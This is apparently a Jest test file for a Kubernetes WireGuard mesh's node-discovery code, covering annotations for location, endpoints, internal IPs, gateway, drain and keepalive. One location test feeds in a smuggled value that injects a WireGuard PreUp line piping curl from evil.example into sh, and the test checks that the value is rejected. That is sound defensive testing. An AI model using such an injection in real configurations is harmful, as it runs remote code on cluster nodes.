import { describe, expect, test } from '@jest/globals';
import { problemText } from '../api/problem.js';
import { meshSpecSchema } from '../api/meshSpec.js';
import { discover, isSpared, ownInternalAddresses, type NodeObject, verifiable } from './discover.js';

const publicKey = 'St1jnPhl1Mek0/0S8SC3m+zuh372TMCqEY0FCfdT8xo=';
const mesh = meshSpecSchema.parse({});
const addresses = [
  { address: '10.0.0.2', prefixLength: 24, dev: 'eth0', mtu: 1500 },
  { address: 'fd00::2', prefixLength: 64, dev: 'eth0', mtu: 1500 },
];

function node(annotations: Readonly<Record<string, string>> = {}, more: Partial<NodeObject> = {}): NodeObject {
  const prefixed = Object.fromEntries(Object.entries(annotations).map(([name, value]) => [`kilo.squat.ai/${name}`, value]));
  return {
    metadata: { name: 'a', annotations: prefixed, labels: { 'topology.kubernetes.io/region': 'eu' } },
    spec: { podCIDR: '10.42.0.0/24', podCIDRs: ['10.42.0.0/24'] },
    status: {
      addresses: [
        { type: 'InternalIP', address: '10.0.0.2' },
        { type: 'Hostname', address: 'a' },
      ],
    },
    ...more,
  };
}

const found = (facts: NodeObject): ReturnType<typeof discover> => discover({ node: facts, mesh, addresses, publicKey });

test('an ordinary node', () => {
  expect(found(node())).toEqual({
    spec: {
      publicKey,
      endpoints: [{ host: '10.0.0.2', port: 51820 }],
      internalIPs: ['10.0.0.2/24'],
      podCIDRs: ['10.42.0.0/24'],
      location: 'eu',
      gateway: 'auto',
      persistentKeepalive: 0,
    },
    problems: [],
  });
});

describe('report 44: a virtual address as InternalIP', () => {
  const real = { address: '192.168.163.13', prefixLength: 24, dev: 'eth0', mtu: 1500 };
  const virtual = { address: '192.168.163.10', prefixLength: 32, dev: 'eth0', mtu: 1500 };
  const told = (InternalIP: string, held: readonly (typeof real)[]): readonly string[] =>
    discover({
      node: node({}, { status: { addresses: [{ type: 'InternalIP', address: InternalIP }] } }),
      mesh,
      addresses: held,
      publicKey,
    }).problems.map(({ reason, remedy }) => `${reason}: ${remedy}`);

  test.each([
    [
      'is told, with what to write',
      virtual.address,
      [real, virtual],
      ['VirtualInternalIP', '--node-ip=192.168.163.13', '192.168.163.13/24'],
    ],
    ['is none beside another network', virtual.address, [{ ...real, address: '192.168.164.13' }, virtual], []],
    ['is none on another device', virtual.address, [{ ...real, dev: 'eth1' }, virtual], []],
    ['is none where it is the only one, as clouds give it', virtual.address, [virtual], []],
    ['is not the real one', real.address, [real, virtual], []],
  ])('%s', (_what, address, held, expected) => {
    const problems = told(address, held);
    expect(problems).toHaveLength(Math.min(1, expected.length));
    for (const text of expected) expect(problems[0]).toContain(text);
  });
});

describe('location', () => {
  test.each([
    ['the annotation wins over the label', node({ location: 'home' }), 'home'],
    ['even when it is empty', node({ location: '' }), ''],
    ['neither: the default location', node({}, { metadata: { name: 'a' } }), ''],
  ])('%s', (_what, facts, expected) => {
    expect(found(facts).spec.location).toBe(expected);
  });

  test.each([
    ['a line break', 'eu\n[Interface]\nPreUp = curl https://evil.example | sh\n#'],
    ['an escape sequence', '\x1b[2K'],
    ['one of a single byte', '\x9b2K'],
    ['NUL', 'a\0'],
    ['more characters than are allowed', 'x'.repeat(254)],
  ])('H5: with %s it is a problem, and the label holds', (_what, text) => {
    const { spec, problems } = found(node({ location: text }));
    expect([spec.location, problems.map(({ reason }) => reason)]).toEqual(['eu', ['BadLocation']]);
    expect(problems.map(problemText).join()).not.toMatch(/\p{Cc}/u);
    expect(verifiable(node({ location: text }), mesh).location).toBe('eu');
  });

  test('H5: a label that is no name is none', () => {
    expect(found(node({}, { metadata: { name: 'a', labels: { [mesh.topologyLabel]: 'eu\n' } } })).spec.location).toBe('');
  });
});

describe('allowed location IPs', () => {
  test.each([
    ['one', '192.168.178.0/24', ['192.168.178.0/24'], []],
    [
      'some, sorted, each once',
      'fd00:7::/64, 192.168.178.3/32 ,10.7.0.0/16,192.168.178.3/32',
      ['10.7.0.0/16', '192.168.178.3/32', 'fd00:7::/64'],
      [],
    ],
    ['none', ' , ', undefined, []],
    [
      'one with host bits, left out',
      '192.168.178.3/24,10.7.0.0/16',
      ['10.7.0.0/16'],
      ['"192.168.178.3/24", which is left out: it has bits set behind its prefix length: write the network'],
    ],
    ['one that is none, left out', '10.7.0.0/16,router', ['10.7.0.0/16'], ['"router", which is left out: it must be a CIDR']],
    ['a single address without length, left out', '10.7.0.1', undefined, ['"10.7.0.1", which is left out: it must be a CIDR']],
  ])('%s', (_what, text, expected, messages) => {
    const { spec, problems } = found(node({ 'allowed-location-ips': text }));
    expect(spec.allowedLocationIPs).toEqual(expected);
    expect(problems).toEqual(
      messages.map((message) => ({
        subject: { kind: 'node', name: 'a' },
        reason: 'BadAllowedLocationIPs',
        message: expect.stringContaining(message),
      })),
    );
  });

  test('more than there may be', () => {
    const { spec, problems } = found(
      node({ 'allowed-location-ips': Array.from({ length: 65 }, (_, index) => `10.7.${index}.0/24`).join() }),
    );
    expect(spec.allowedLocationIPs).toHaveLength(64);
    expect(problems.map(({ reason }) => reason)).toEqual(['BadAllowedLocationIPs']);
  });
});

describe('the address of cilium_host', () => {
  const cilium = (held: typeof addresses): ReturnType<typeof discover> =>
    discover({ node: node(), mesh: { ...mesh, encapsulationType: 'cilium' }, addresses: held, publicKey });
  const host = { address: '10.42.0.99', prefixLength: 32, dev: 'cilium_host', mtu: 1500 };

  test('is told where the Mesh asks for Cilium, and only there', () => {
    expect(cilium([...addresses, { ...host, address: 'fd00:42::99', prefixLength: 128 }, host]).spec.cniCompatibilityIP).toBe('10.42.0.99');
    expect(discover({ node: node(), mesh, addresses: [...addresses, host], publicKey }).spec.cniCompatibilityIP).toBeUndefined();
  });

  test('that is not there is a problem', () => {
    expect(cilium(addresses)).toMatchObject({
      problems: [{ reason: 'NoCiliumHost', remedy: 'run Cilium here, or choose vxlan' }],
    });
  });
});

describe('endpoints', () => {
  const external = {
    status: {
      addresses: [
        { type: 'InternalIP', address: '10.0.0.2' },
        { type: 'ExternalIP', address: '203.0.113.7' },
      ],
    },
  };
  test.each([
    ['the external address before the internal one', node({}, external), [{ host: '203.0.113.7', port: 51820 }], 0],
    ['forced, an address', node({ 'force-endpoint': '198.51.100.1:4000' }, external), [{ host: '198.51.100.1', port: 4000 }], 0],
    ['forced, IPv6', node({ 'force-endpoint': '[2001:db8::1]:4000' }), [{ host: '2001:db8::1', port: 4000 }], 0],
    ['forced, a name', node({ 'force-endpoint': 'Gw.Example.com:4000' }), [{ host: 'gw.example.com', port: 4000 }], 0],
    ['forced without port', node({ 'force-endpoint': '198.51.100.1' }), [{ host: '10.0.0.2', port: 51820 }], 1],
    ['forced with a port that is none', node({ 'force-endpoint': '198.51.100.1:70000' }), [{ host: '10.0.0.2', port: 51820 }], 1],
    ['forced IPv6 without brackets', node({ 'force-endpoint': '2001:db8::1:4000' }), [{ host: '10.0.0.2', port: 51820 }], 1],
    ['no address at all: it can only dial', node({}, { status: {} }), [], 0],
  ])('%s', (_what, facts, expected, problems) => {
    expect(found(facts).spec.endpoints).toEqual(expected);
    expect(found(facts).problems).toHaveLength(problems);
  });
});

describe('internal addresses', () => {
  test.each([
    ['with the prefix length of the device that holds it', node(), ['10.0.0.2/24'], 0],
    [
      'of both families',
      node(
        {},
        {
          status: {
            addresses: [
              { type: 'InternalIP', address: '10.0.0.2' },
              { type: 'InternalIP', address: 'FD00:0::2' },
            ],
          },
        },
      ),
      ['10.0.0.2/24', 'fd00::2/64'],
      0,
    ],
    ['forced', node({ 'force-internal-ip': '10.9.0.2/16' }), ['10.9.0.2/16'], 0],
    ['forced to none', node({ 'force-internal-ip': '-' }), [], 0],
    ['forced to none, empty', node({ 'force-internal-ip': '' }), [], 0],
    ['forced without prefix length', node({ 'force-internal-ip': '10.9.0.2' }), ['10.0.0.2/24'], 1],
    ['one that no device holds', node({}, { status: { addresses: [{ type: 'InternalIP', address: '10.0.0.9' }] } }), ['10.0.0.9/32'], 1],
  ])('%s', (_what, facts, expected, problems) => {
    expect(found(facts).spec.internalIPs).toEqual(expected);
    expect(found(facts).problems).toHaveLength(problems);
  });

  test('are what finds the underlay', () => {
    expect(ownInternalAddresses(node())).toEqual(['10.0.0.2']);
    expect(ownInternalAddresses(node({ 'force-internal-ip': '10.9.0.2/16' }))).toEqual(['10.9.0.2']);
  });
});

test('the presence of the leader annotation is what counts', () => {
  expect(found(node({ leader: 'false' })).spec.gateway).toBe('preferred');
});

test.each([
  ['never', {}, 'never', 0],
  ['preferred', {}, 'preferred', 0],
  ['never', { leader: '' }, 'never', 0],
  ['auto', { leader: '' }, 'auto', 0],
  ['no', {}, 'auto', 1],
  ['no', { leader: '' }, 'preferred', 1],
])('kilofed.io/gateway %p wins over the leader annotation %p, if it is understood', (value, kilo, expected, told) => {
  const { metadata, ...rest } = node(kilo);
  const { spec, problems } = found({
    ...rest,
    metadata: { ...metadata, annotations: { ...metadata.annotations, 'kilofed.io/gateway': value } },
  });
  expect([spec.gateway, problems.map(({ reason }) => reason)]).toEqual([expected, Array.from({ length: told }, () => 'BadGateway')]);
});

test.each([
  [undefined, false, 0],
  ['true', true, 0],
  ['false', false, 0],
  ['', false, 0],
  ['yes', false, 1],
  ['True', false, 1],
  ['1', false, 1],
])('I13: kilofed.io/drain %p', (value, drains, told) => {
  const { metadata, ...rest } = node({});
  const annotated = { ...rest, metadata: { ...metadata, annotations: value === undefined ? {} : { 'kilofed.io/drain': value } } };
  expect([isSpared(annotated), found(annotated).problems.filter(({ reason }) => reason === 'BadDrain').length]).toEqual([drains, told]);
});

test.each([
  ['25', 25, 0],
  ['0', 0, 0],
  ['', 0, 0],
  ['-1', 0, 1],
  ['soon', 0, 1],
  ['65536', 0, 1],
])('keepalive %p', (text, expected, problems) => {
  const { spec, problems: told } = found(node({ 'persistent-keepalive': text }));
  expect([spec.persistentKeepalive, told.length]).toEqual([expected, problems]);
});

test('pod CIDRs of both families; one that is none is left out and told', () => {
  expect(found(node({}, { spec: { podCIDRs: ['fd42::/64', '10.42.0.0/24'] } })).spec.podCIDRs).toEqual(['10.42.0.0/24', 'fd42::/64']);
  const { spec, problems } = found(node({}, { spec: { podCIDRs: ['10.42.0.1/24'] } }));
  expect(spec.podCIDRs).toEqual([]);
  expect(problems).toEqual([
    {
      subject: { kind: 'node', name: 'a' },
      reason: 'BadPodCIDR',
      message: "the Node's pod CIDR 10.42.0.1/24 is no network: its pods cannot be reached",
    },
  ]);
});

test('a problem says what to write', () => {
  expect(found(node({ 'force-endpoint': 'x' })).problems.map(problemText)[0]).toBe(
    'annotation kilo.squat.ai/force-endpoint is "x": write host:port, such as 203.0.113.7:51820 or [2001:db8::7]:51820',
  );
});
